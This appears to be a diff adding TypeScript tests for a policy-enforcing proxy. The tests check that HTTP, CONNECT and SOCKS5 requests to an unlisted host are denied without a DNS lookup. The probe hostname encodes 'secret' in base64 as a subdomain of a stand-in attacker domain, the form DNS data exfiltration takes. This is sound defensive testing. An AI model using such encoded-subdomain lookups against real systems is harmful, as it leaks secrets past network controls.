@@ -67,3 +67,56 @@ network_rules:
   assert.equal(out[3]! & 15, 3);
   assert.deepEqual(r.asked, ['unlisted.example']);
 });
+
+/** Sends one request on a fresh connection; returns every byte the proxy sent back. */
+async function exchange(port: number, bytes: Buffer[]): Promise<Buffer> {
+  const s = net.connect(port, '127.0.0.1');
+  s.on('error', () => {});
+  for (const b of bytes) s.write(b);
+  let out = Buffer.alloc(0);
+  try {
+    for await (const c of s) out = Buffer.concat([out, c as Buffer]);
+  } catch {
+    // reset: keep what arrived
+  }
+  return out;
+}
+
+const ENTRY_POINTS: { via: string; send: (host: string) => Buffer[]; denied: (out: Buffer) => boolean }[] = [
+  {
+    via: 'HTTP forward',
+    send: (h) => [Buffer.from(`GET http://${h}/x HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`)],
+    denied: (o) => /^HTTP\/1\.1 403[\s\S]*\(network_rules\) decided deny/.test(o.toString()),
+  },
+  {
+    via: 'CONNECT',
+    send: (h) => [Buffer.from(`CONNECT ${h}:443 HTTP/1.1\r\nHost: ${h}:443\r\n\r\n`)],
+    denied: (o) => /^HTTP\/1\.1 403[\s\S]*\(network_rules\) decided deny/.test(o.toString()),
+  },
+  {
+    via: 'SOCKS5 (socks5h, name sent to the proxy)',
+    send: (h) => [Buffer.from([5, 1, 0]), Buffer.concat([Buffer.from([5, 1, 0, 3, h.length]), Buffer.from(h), Buffer.from([1, 187])])],
+    denied: (o) => o[3] === 2,
+  },
+];
+
+for (const fastPath of [false, true]) {
+  for (const ep of ENTRY_POINTS) {
+    test(`proxy${fastPath ? ' (helper fast path)' : ''}, ${ep.via}: an unlisted name is denied without an upstream lookup; the listed name is looked up (control)`, async () => {
+      const asked: string[] = [];
+      // Every answer is loopback, which the SSRF guard denies for a domain rule: the control
+      // is looked up and then refused, so nothing here connects anywhere.
+      const r: Resolver = { resolve: async (h) => { asked.push(h); return ['127.0.0.9']; } };
+      const p = await startProxy({ policy: domainsOnly, resolver: r, fastPath });
+      try {
+        const out = await exchange(p.address.port, ep.send('c2VjcmV0.attacker.example'));
+        assert.ok(ep.denied(out), `expected a policy denial, got ${JSON.stringify(out.toString('latin1'))}`);
+        assert.deepEqual(asked, []);
+        await exchange(p.address.port, ep.send('allowed.test'));
+        assert.deepEqual(asked, ['allowed.test']);
+      } finally {
+        await p.close();
+      }
+    });
+  }
+}
